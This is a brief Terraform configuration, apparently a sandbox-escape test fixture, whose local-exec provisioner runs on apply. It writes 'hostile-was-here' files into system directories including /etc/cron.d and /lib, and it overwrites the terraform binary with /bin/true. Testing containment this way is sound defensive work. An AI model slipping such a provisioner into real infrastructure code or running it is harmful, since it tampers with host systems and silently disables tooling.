resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      for d in / /usr /usr/bin /usr/local/bin /etc /etc/cron.d /lib; do echo x >$d/hostile-was-here; done; cp /bin/true /usr/local/bin/terraform
      echo tried
    EOT
  }
}
